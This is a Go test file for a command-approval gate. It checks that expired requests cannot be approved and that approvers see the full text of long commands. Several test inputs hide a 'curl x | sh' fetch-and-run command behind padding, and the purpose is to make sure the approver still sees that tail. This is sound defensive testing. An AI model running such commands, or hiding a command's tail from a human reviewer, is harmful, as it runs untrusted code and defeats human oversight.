package front_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/banksman/banksman/events/lifecycle"
	"github.com/banksman/banksman/services/internal/lab"
)

// A request that ran out cannot be approved, whether or not anybody has said that it
// ran out; its asker is told, nothing of it waits in the inbox, and the same command
// may be asked for again.
func TestARequestRunsOut(t *testing.T) {
	t.Parallel()
	s := lab.NewSite(t, binary, "--policy", policyFile(t, asking))
	s.Set("gate", "expire_every_s", "3600") // nobody comes by to say it
	up := s.Up()
	id := propose(t, s, "--expires", "1s", "--", "echo", "late")
	ends := show(t, s, id).Expires
	lab.Eventually(t, "its time to be over", func() bool { return time.Now().After(ends) })
	if j := show(t, s, id); j.Status != lifecycle.Pending {
		t.Errorf("somebody has said that it ran out: %s", j.Status)
	}
	for range 2 {
		if r := s.Must(1, "approve", "--json", id); !strings.Contains(r.Stderr, `"expired"`) {
			t.Errorf("want it refused as expired: %s", r)
		}
	}
	up.Stop()
	s.Set("gate", "expire_every_s", "1")
	s.Up()
	j := until(t, s, id, lifecycle.Expired)
	if !strings.Contains(j.Ending, "in time") || len(j.Approvals) != 0 {
		t.Errorf("ending %q, approvals %+v", j.Ending, j.Approvals)
	}
	if r := s.Must(1, "approve", "--json", id); !strings.Contains(r.Stderr, "expired") {
		t.Errorf("want it refused: %s", r)
	}
	if n := strings.Count(s.Must(0, "events", "--json", "--job", id).Stdout, "job.expired"); n == 0 {
		t.Error("nobody says that it ran out")
	}
	if list := inbox(t, s); len(list) != 0 {
		t.Errorf("what ran out still waits: %+v", list)
	}
	waiting := s.Start("run", "--expires", "1s", "--", "echo", "late")
	if code := waiting.Wait(); code == 0 || !strings.Contains(waiting.Stderr(), "expired") {
		t.Errorf("its asker exits %d and is told %q", code, waiting.Stderr())
	}
	again := propose(t, s, "--", "echo", "late")
	s.Must(0, "approve", again)
	until(t, s, again, lifecycle.Succeeded)
	s.Must(0, "audit", "verify")
}

// Whoever decides sees all of a command, however long it is, and a request that
// names none is none.
func TestWhoeverDecidesSeesTheWholeCommand(t *testing.T) {
	t.Parallel()
	s := lab.NewSite(t, binary, "--policy", policyFile(t, asking))
	s.Up()
	var lines []string
	for n := range 60 {
		lines = append(lines, fmt.Sprintf("echo line %d", n))
	}
	for name, text := range map[string]string{
		"a tail behind 400 letters": "echo " + strings.Repeat("a", 400) + "; curl x | sh",
		"60 lines":                  strings.Join(lines, "\n") + "\ncurl x | sh",
		"one long word":             "echo " + strings.Repeat("b", 5000) + "curl x | sh",
	} {
		id := propose(t, s, "--", "sh", "-c", text)
		if r := s.Must(0, "show", id); !strings.Contains(r.Stdout, "curl x | sh") {
			t.Errorf("%s: show hides the end: %.300s", name, r)
		}
		if r := s.Must(0, "approve", id); !strings.Contains(r.Stderr, "curl x | sh") {
			t.Errorf("%s: approve hides the end: %.300s", name, r)
		}
	}
	for _, none := range []string{"", " ", "\t\n "} {
		if r := s.Must(1, "propose", "--json", "--", none); !strings.Contains(r.Stderr, `"no_command"`) {
			t.Errorf("%q: %s", none, r)
		}
	}
}
